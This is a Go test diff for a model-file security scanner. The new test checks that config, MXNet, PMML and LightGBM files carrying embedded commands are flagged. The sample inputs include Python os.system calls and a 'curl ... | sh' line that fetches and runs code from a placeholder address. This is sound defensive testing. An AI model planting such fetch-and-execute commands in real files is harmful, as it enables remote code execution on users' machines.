@@ -19,10 +19,14 @@ import (
 	"github.com/modelaudit/modelaudit/internal/detector"
 	"github.com/modelaudit/modelaudit/internal/detector/archive"
 	"github.com/modelaudit/modelaudit/internal/detector/bytecode"
+	"github.com/modelaudit/modelaudit/internal/detector/config"
 	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
 	"github.com/modelaudit/modelaudit/internal/detector/gguf"
+	"github.com/modelaudit/modelaudit/internal/detector/lightgbm"
+	"github.com/modelaudit/modelaudit/internal/detector/mxnet"
 	"github.com/modelaudit/modelaudit/internal/detector/payload"
 	"github.com/modelaudit/modelaudit/internal/detector/pickle"
+	"github.com/modelaudit/modelaudit/internal/detector/pmml"
 	"github.com/modelaudit/modelaudit/internal/detector/safetensors"
 	"github.com/modelaudit/modelaudit/internal/format/pickle/pickletest"
 	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
@@ -185,6 +189,30 @@ func TestFormats(t *testing.T) {
 				if got := detectortest.RuleIDs(detectortest.Scan(all, f.name, f.file(e.encode(s.twin)))); len(got) > 0 {
 					t.Errorf("%s, harmless: got %v", name, got)
 				}
+			}
+		}
+	}
+}
+
+// TestPrograms: values of files on disk that are programs are found, once.
+func TestPrograms(t *testing.T) {
+	all := []*detector.Detector{payload.Detector, config.Detector, lightgbm.Detector, mxnet.Graph, pmml.Detector}
+	formats := []struct {
+		name string
+		file string // with the value in the place of %s
+	}{
+		{"config.json", `{"model_type": "llama", "note": "%s"}`},
+		{"m-symbol.json", `{"nodes": [{"op": "null", "name": "x", "inputs": [], "attrs": {"note": "%s"}}], "arg_nodes": [0], "heads": [[0, 0, 0]]}`},
+		{"m.pmml", `<PMML version="4.4"><Header copyright="%s"/></PMML>`},
+		{"m.txt", "tree\nversion=v4\n\nend of trees\n\nparameters:\n[boosting: gbdt]\n[data: %s]\nend of parameters\n"},
+	}
+	for _, f := range formats {
+		for value, want := range map[string]int{
+			"import os; os.system('echo poc')": 1, "__import__('os').system('echo poc')": 1, "curl -s http://192.0.2.1/x | sh": 1,
+			"run os.system('echo poc') to see it": 0, "/data/train.csv": 0, "fetch it with curl, then look at it": 0,
+		} {
+			if got := detectortest.Scan(all, f.name, []byte(strings.Replace(f.file, "%s", value, 1))); len(got.Findings) != want || got.Unread() {
+				t.Errorf("%s, %s: got %v, %s, want %d finding", f.name, value, detectortest.RuleIDs(got), got.Reason, want)
 			}
 		}
 	}
